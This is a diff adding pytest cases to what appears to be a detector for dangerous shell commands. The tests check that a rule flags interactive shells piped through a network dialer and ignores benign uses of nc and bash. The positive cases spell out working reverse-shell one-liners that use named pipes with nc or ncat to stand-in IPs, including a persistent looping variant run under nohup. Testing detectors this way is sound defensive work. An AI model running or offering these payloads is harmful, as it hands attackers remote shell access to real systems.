@@ -661,3 +661,29 @@ def test_tr_labels_a_rotation_as_decoded_and_a_case_change_not() -> None:
     lower = translate(["A-Z", "a-z"], Value.of("Hello"))
     assert lower.texts == ("hello",)
     assert not lower.has(Label.DECODED)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'p="$(mktemp -u)"; mkfifo "$p"\nsh -i < "$p" 2>&1 | nc 192.0.2.7 4444 > "$p"\n',
+        # the tools found on PATH, the login shell looked up, the loop run by nohup sh -c
+        'n="$(command -v ncat || command -v nc)"\nl="$(getent passwd "$USER" | cut -d: -f7)"; l="${l:-/bin/sh}"\n'
+        'p="$(mktemp -u)"\nnohup sh -c "while :; do \\"$l\\" -i < \\"$p\\" 2>&1 | \\"$n\\" 192.0.2.7 4444 > \\"$p\\"; sleep 20; done" &\n',
+        "cat /tmp/f | /bin/bash -i 2>&1 | ncat 198.51.100.3 9001 > /tmp/f\n",
+    ],
+)
+def test_an_interactive_shell_piped_through_a_dialer(text: str) -> None:
+    assert "SKC-FL-047" in _rules(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "echo ping | nc -w1 127.0.0.1 6379\n",
+        "bash -i -c 'make test' | tee build.log\n",
+        "nc -l 8080 < index.html | sh -c 'cat > /dev/null'\n",
+    ],
+)
+def test_shells_and_nc_apart_are_not_wired(text: str) -> None:
+    assert "SKC-FL-047" not in _rules(text)
